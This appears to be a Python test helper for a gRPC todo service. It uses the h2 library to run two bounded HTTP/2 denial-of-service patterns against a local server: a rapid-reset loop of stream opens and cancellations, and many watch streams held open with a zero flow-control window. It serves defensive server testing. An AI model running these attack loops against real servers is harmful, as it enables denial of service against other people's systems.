"""A raw HTTP/2 peer (the h2 package) doing what no gRPC library lets a client do, against a
server on this machine, bounded in count and time:

- rapid reset: HEADERS (and the request) then RST_STREAM, in a loop on one connection. Run as a
  process of its own (so that it does not share the test's interpreter), it prints what it saw as
  one JSON line: ``python tests/h2_peer.py PORT SECONDS MAX_RESETS``;
- never reading: one connection advertising a zero flow-control window opens many WatchTodos
  streams, so whatever the server sends them stays with the server (``never_reading_watches``)."""

from __future__ import annotations

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings

from sessiontodo.v1 import todo_service_pb2 as pb

BATCH = 50


def _framed(message: bytes) -> bytes:
    """A gRPC message as it travels: uncompressed, its length, itself."""
    return b"\x00" + len(message).to_bytes(4, "big") + message


def _headers(port: int, method: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/sessiontodo.v1.TodoService/{method}"),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def never_reading_watches(port: int, session_id: str, streams: int, hold: float) -> dict[str, int]:
    """Open ``streams`` WatchTodos on one connection whose streams' windows are zero, keep it open
    for ``hold`` seconds without granting any window, then close it. The streams' statuses by
    grpc-status ("open": none yet, the server holding their messages)."""
    settings = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    connection.local_settings = h2.settings.Settings(client=True, initial_values=settings)
    request = _framed(pb.WatchTodosRequest(session_id=session_id).SerializeToString())
    statuses: dict[int, str] = {}
    with socket.create_connection(("127.0.0.1", port), timeout=0.2) as sock:
        connection.initiate_connection()
        for _ in range(streams):
            stream_id = connection.get_next_available_stream_id()
            connection.send_headers(stream_id, _headers(port, "WatchTodos"))
            connection.send_data(stream_id, request, end_stream=True)
            statuses[stream_id] = "open"
        sock.sendall(connection.data_to_send())
        deadline = time.monotonic() + hold
        while time.monotonic() < deadline:
            try:
                chunk = sock.recv(1 << 16)
            except TimeoutError:
                continue
            if not chunk:
                break
            for event in connection.receive_data(chunk):
                if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                    headers = {str(name): str(value) for name, value in event.headers or []}  # utf-8: str
                    if "grpc-status" in headers and event.stream_id is not None:
                        statuses[event.stream_id] = headers["grpc-status"]
            sock.sendall(connection.data_to_send())  # settings and ping acknowledgements only
    counts: dict[str, int] = {}
    for status in statuses.values():
        counts[status] = counts.get(status, 0) + 1
    return counts


def attack(port: int, seconds: float, max_resets: int) -> dict[str, object]:
    """Reset streams until the time or the count runs out, or the server closes the connection."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    headers = _headers(port, "GetTodos")
    request = _framed(pb.GetTodosRequest(session_id="s").SerializeToString())
    resets, pings, goaway, closed = 0, 0, None, False
    deadline = time.monotonic() + seconds
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        while time.monotonic() < deadline and resets < max_resets and not closed:
            for _ in range(BATCH):
                stream_id = connection.get_next_available_stream_id()
                connection.send_headers(stream_id, headers)
                connection.send_data(stream_id, request)
                connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                resets += 1
            try:
                sock.sendall(connection.data_to_send())
                sock.setblocking(False)
                while chunk := sock.recv(1 << 16):
                    for event in connection.receive_data(chunk):
                        if isinstance(event, h2.events.PingReceived):
                            pings += 1  # h2 acknowledges it with the next send
                        elif isinstance(event, h2.events.ConnectionTerminated):
                            goaway, closed = str(event.error_code), True
                else:
                    closed = True  # the server closed the connection
            except BlockingIOError:
                pass
            except OSError:
                closed = True
            finally:
                sock.setblocking(True)
                sock.settimeout(2)
    return {"resets": resets, "pings": pings, "goaway": goaway, "closed": closed}


if __name__ == "__main__":
    print(json.dumps(attack(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]))))
